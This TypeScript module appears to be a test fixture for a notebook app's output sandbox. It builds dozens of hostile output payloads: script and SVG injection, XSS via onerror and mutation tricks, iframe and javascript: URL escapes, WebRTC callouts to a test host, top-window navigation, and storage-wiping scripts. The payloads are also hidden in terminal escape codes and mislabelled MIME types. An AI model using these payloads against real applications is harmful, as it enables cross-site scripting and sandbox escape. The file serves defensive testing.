/** Where payloads try to get to: what arrives at `host` or `stun` was reached; at `linked` only a person's click may arrive. */
export interface Places {
  /** TCP, for HTTP and WebSocket, such as `127.0.0.1:4711`. */
  readonly host: string
  /** UDP. */
  readonly stun: string
  /** TCP: where links of the page itself point. */
  readonly linked: string
}

/** An output of a notebook's file. */
export type OutputPayload = Readonly<Record<string, unknown>>

const script = (code: string): string => `<script>${code}</script>`

/** Markup that stands in an attribute. */
const quoted = (markup: string): string => markup.replaceAll('&', '&amp;').replaceAll('"', '&quot;')

/** Markup that stands in a script. */
const inScript = (markup: string): string => JSON.stringify(markup).replaceAll('</', '<\\/')

const pixel = 'data:image/gif;base64,R0lGODlhAQABAAAAACw='

/** Tells the studio's window that a script of an output ran with its rights. */
const mark = "top.document.title = 'taken'"

const callOut = ({ host, stun }: Places): string =>
  `globalThis.call = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${stun}' }, { urls: 'turn:${host}?transport=tcp', username: 'a', credential: 'b' }] });
call.createDataChannel('x'); call.createOffer().then((offer) => call.setLocalDescription(offer));`

/** Frames in frames, and documents that follow on one another: what is taken from a window is there again in the next. */
function framesIn(places: Places): readonly string[] {
  const call = callOut(places)
  const markup = script(call)
  const add = (name: string, fields: string) =>
    script(
      `const one = document.createElement('${name}'); Object.assign(one, ${fields}); document.documentElement.append(one)`,
    )
  return [
    `<iframe srcdoc="${quoted(markup)}"></iframe>`,
    `<iframe srcdoc="${quoted(`<iframe srcdoc="${quoted(markup)}"></iframe>`)}"></iframe>`,
    `<iframe sandbox="allow-scripts" srcdoc="${quoted(markup)}"></iframe>`,
    add('iframe', `{ srcdoc: ${inScript(markup)} }`),
    `<iframe src="javascript:${quoted(call)}"></iframe>`,
    script(
      `location.href = ${inScript(`javascript:${JSON.stringify(markup.replaceAll("'", '`').replaceAll('\n', ' '))}`)}`,
    ),
  ]
}

function pagesIn(places: Places): readonly string[] {
  const { host } = places
  const call = callOut(places)
  const url = `http://${host}/`
  const markup = script(call)
  const add = (name: string, fields: string) =>
    script(
      `const one = document.createElement('${name}'); Object.assign(one, ${fields}); document.documentElement.append(one)`,
    )
  return [
    markup,
    `<iframe src="data:text/html,${encodeURIComponent(markup)}"></iframe>`,
    `<iframe src="${url}"></iframe>`,
    `<object data="data:text/html,${encodeURIComponent(markup)}"></object><embed src="${url}">`,
    script(
      `const one = document.createElement('iframe'); document.documentElement.append(one); new one.contentWindow.RTCPeerConnection()`,
    ),
    script(`location.href = 'data:text/html,${encodeURIComponent(markup)}'`),
    script(`location.href = URL.createObjectURL(new Blob([${inScript(markup)}], { type: 'text/html' }))`),
    script(`location.href = '${url}'`),
    script(`top.location.href = '${url}'`),
    script(`parent.location.replace('/frames/python.html?connect=any')`),
    script(`location.href = '/frames/python.html?connect=any'`),
    script(`location.href = '/'`),
    script(`open('${url}'); open('${url}', '_top')`),
    `<meta http-equiv="refresh" content="0;url=${url}">`,
    `<base href="${url}" target="_top"><img src="x.png"><a href="y">link</a>`,
    `<a href="${url}" target="_top">link</a>${script("document.querySelector('a').click()")}`,
    `<a href="${url}" target="_blank">link</a>${script("document.querySelector('a').click()")}`,
    `<a href="#x" ping="${url}">link</a>${script("document.querySelector('a').click()")}`,
    `<form action="${url}" target="_top"><input name="q"></form>${script("document.querySelector('form').submit()")}`,
    `<link rel="preconnect" href="${url}"><link rel="dns-prefetch" href="${url}"><link rel="prefetch" href="${url}p">`,
    `<link rel="stylesheet" href="${url}s.css"><link rel="icon" href="${url}"><link rel="manifest" href="${url}">`,
    `<link rel="preload" as="image" href="${url}"><link rel="modulepreload" href="${url}"><link rel="prerender" href="${url}">`,
    add('link', `{ rel: 'preconnect', href: '${url}' }`),
    `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${url}"],"eagerness":"immediate"}],"prerender":[{"source":"list","urls":["${url}"],"eagerness":"immediate"}]}</script>`,
    `<img src="${url}"><img srcset="${url} 2x"><picture><source srcset="${url}"><img></picture><video poster="${url}"></video>`,
    `<audio src="${url}" autoplay></audio><video autoplay><source src="${url}"><track default src="${url}"></video>`,
    `<img attributionsrc="${url}" src="${pixel}"><body background="${url}">`,
    `<style>@import "${url}a.css"; @font-face { font-family: x; src: url(${url}x.woff) } body { font-family: x; background: url(${url}b.png); cursor: url(${url}c.cur), auto }</style>text`,
    `<script src="${url}x.js"></script><script type="module">import '${url}m.js'</script><script type="importmap">{"imports":{"x":"${url}"}}</script>`,
    script(`fetch('${url}', { mode: 'no-cors' }); fetchLater?.('${url}', { activateAfter: 0 })`),
    script(`const r = new XMLHttpRequest(); r.open('GET', '${url}'); r.send()`),
    script(`new WebSocket('ws://${host}/'); new EventSource('${url}')`),
    script(`navigator.sendBeacon('${url}', 'x'); new WebTransport('https://${host}/')`),
    script(`new Worker(URL.createObjectURL(new Blob(["fetch('${url}'); importScripts('${url}')"])))`),
    script(`new SharedWorker('${url}'); navigator.serviceWorker.register('${url}')`),
    script(`new FontFace('x', 'url(${url})').load(); new Image().src = '${url}'; new Audio('${url}').play()`),
    script(`import('${url}x.js')`),
    `<meta http-equiv="Content-Security-Policy" content="default-src *; report-uri ${url}"><img src="x:y">`,
    script(`parent.postMessage({ frameHeight: 1e9, html: ${inScript(markup)} }, '*'); top.close()`),
    script(
      `for (const one of Array.from(parent.frames)) one.postMessage({ html: ${inScript(markup)} }, '*')`,
    ),
    script(`parent.document.body.innerHTML = ''; ${mark}`),
    script(`localStorage.clear(); indexedDB.deleteDatabase('x'); ${mark}`),
    script(`document.open(); document.write(${inScript(markup)}); document.close()`),
    `<div><template shadowrootmode="open">${markup}</template></div><details open ontoggle="${quoted(call)}">x</details>`,
  ]
}

function picturesIn(places: Places): readonly string[] {
  const url = `http://${places.host}/`
  const call = quoted(callOut(places))
  const svg = (content: string, attributes = '') =>
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9" width="90" ${attributes}>${content}<rect width="9" height="9"/></svg>`
  return [
    svg(`<script>${callOut(places)}</script>`),
    svg('', `onload="${call}"`),
    svg(`<image href="${url}" width="9" height="9"/><use href="${url}#x"/><script href="${url}"/>`),
    svg(`<a href="${url}" target="_top"><rect width="9" height="9"/></a>`),
    svg(`<a xlink:href="javascript:${call}"><rect width="9" height="9"/></a>`),
    svg(
      `<a><animate attributeName="href" values="javascript:${call}" begin="0s"/><rect width="9" height="9"/></a>`,
    ),
    svg(`<foreignObject width="9" height="9"><iframe src="${url}"></iframe></foreignObject>`),
    svg(`<style>@import "${url}"; rect { fill: url(${url}#x) }</style><feImage href="${url}"/>`),
  ]
}

function textsIn(places: Places): readonly string[] {
  const { host, linked } = places
  const url = `http://${host}/`
  const link = `http://${linked}/`
  return [
    `[plain](${link}) <${link}> [titled](${link} "x")`,
    `[script](javascript:${encodeURIComponent(mark)}) [data](data:text/html,x) [vb](vbscript:x)`,
    `![picture](${url}p.png) <img src="${url}" srcset="${url} 2x">`,
    `<img src=x onerror="${mark}"><svg onload="${mark}"></svg>`,
    script(mark),
    `<iframe src="${url}"></iframe><object data="${url}"></object><embed src="${url}">`,
    `<a href="${link}" target="_top">top</a> <a href="${link}" target="_self" ping="${url}">self</a>`,
    `<svg viewBox="0 0 9 9" width="90"><a xlink:href="${link}"><rect width="9" height="9"/></a></svg>`,
    `<img usemap="#m" width="9" height="9" alt="" src="${pixel}"><map name="m"><area shape="rect" coords="0,0,9,9" href="${link}"></map>`,
    `<form action="${url}"><button>send</button></form><base href="${url}"><meta http-equiv="refresh" content="0;url=${url}">`,
    `<link rel="preconnect" href="${url}"><link rel="stylesheet" href="${url}"><style>body { background: url(${url}) }</style>`,
    `<p style="background: url(${url})">x</p><table background="${url}"><td background="${url}">x</td></table>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${mark}&gt;"></table></mtext></math>`,
    `<video src="${url}" poster="${url}" autoplay></video><audio src="${url}" autoplay></audio>`,
    `<a href="#/another-notebook">inside</a> <a href="/frames/python.html?connect=any" target="_self">frame</a>`,
  ]
}

const osc = (target: string, text = 'terminal') => `\u001b]8;;${target}\u0007${text}\u001b]8;;\u0007`

function terminalsIn({ host, linked }: Places): readonly string[] {
  return [
    osc(`http://${linked}/`),
    osc(`javascript:${mark}`),
    osc('data:text/html,x'),
    osc(`http://${linked}/"><img src="http://${host}/" onerror="${mark}">`),
    osc(`http://${linked}/" target="_top" onclick="${mark}`),
    osc(`http://${linked}/`, `<img src="http://${host}/">${script(mark)}`),
    `<img src="http://${host}/"><a href="http://${host}/" target="_top">x</a>${script(mark)}`,
    `\u001b]0;${mark}\u0007\u001b]1337;File=inline=1:AAAA\u0007\u001b[31;"onmouseover=x m\u001b[?1049h\u001b[2J\r\r\n`,
  ]
}

/** Data that says of itself to be something else than it is, or comes in a shape that it should not have. */
function bundlesIn(places: Places): readonly Readonly<Record<string, unknown>>[] {
  const url = `http://${places.host}/`
  const markup = script(callOut(places))
  const base64 = Buffer.from(markup).toString('base64')
  return [
    { 'application/javascript': `${mark}; fetch('${url}')`, 'text/plain': 'script' },
    { 'application/x-javascript': mark },
    { 'text/javascript': `${mark}; fetch('${url}')` },
    { 'text/latex': `\\href{javascript:${mark}}{x} \\includegraphics{${url}} $\\url{${url}}$ ${markup}` },
    { 'text/latex': ['$$', '\\htmlData{x="', markup, '}$$'] },
    { 'application/json': { html: markup, polluted: { prototype: 1 } } },
    { 'application/vnd.x+json': [markup, { 'text/html': markup }] },
    { 'application/vnd.jupyter.widget-view+json': { model_id: markup, version_major: 2 } },
    { 'text/html; charset=utf-8': markup, 'text/plain': 'x' },
    { 'TEXT/HTML': markup },
    { 'text/html': [markup, '<p>', 'in parts', '</p>'] },
    { 'application/xhtml+xml': `<html xmlns="http://www.w3.org/1999/xhtml">${markup}</html>` },
    { 'application/xml': `<?xml-stylesheet href="${url}"?><!DOCTYPE x SYSTEM "${url}"><x/>` },
    { 'image/png': `"><script>${mark}</script><img src="${url}` },
    { 'image/png': base64 },
    { 'image/jpeg': `x);background:url(${url})` },
    { 'image/svg+xml': base64 },
    { 'image/svg+xml;base64': base64 },
    { 'application/pdf': base64 },
    { 'text/uri-list': `${url}\r\n${url}` },
    { 'multipart/x-mixed-replace': `--x\r\ncontent-type: text/html\r\n\r\n${markup}` },
    { 'text/x-html': markup, 'text/plain': markup },
    { 'text/vnd.mermaid': `graph TD; A[${markup}] --> B; click A "${url}"` },
    { [`text/html"><script>${mark}</script>`]: markup },
  ]
}

const display = (data: unknown): OutputPayload => ({ output_type: 'display_data', metadata: {}, data })

/**
 * Outputs whose frames call out from frames of their own. Chromium ends the process of such a frame, which Playwright takes for the end
 * of the page.
 */
export const breakingPayloads = (places: Places): readonly OutputPayload[] =>
  framesIn(places).map((page) => display({ 'text/html': page }))

/** Outputs that try to reach places, to take the studio away, or to run with its rights. */
export function outputPayloads(places: Places): readonly OutputPayload[] {
  const evil = terminalsIn(places)
  return [
    ...pagesIn(places).map((page) => display({ 'text/html': page })),
    ...picturesIn(places).map((picture) => display({ 'image/svg+xml': picture })),
    ...textsIn(places).map((text) => display({ 'text/markdown': text })),
    ...evil.map((text) => ({ output_type: 'stream', name: 'stdout', text })),
    { output_type: 'stream', name: 'stderr', text: evil.join('\n') },
    { output_type: 'error', ename: evil[3], evalue: evil[5], traceback: evil },
    ...bundlesIn(places).map(display),
  ]
}
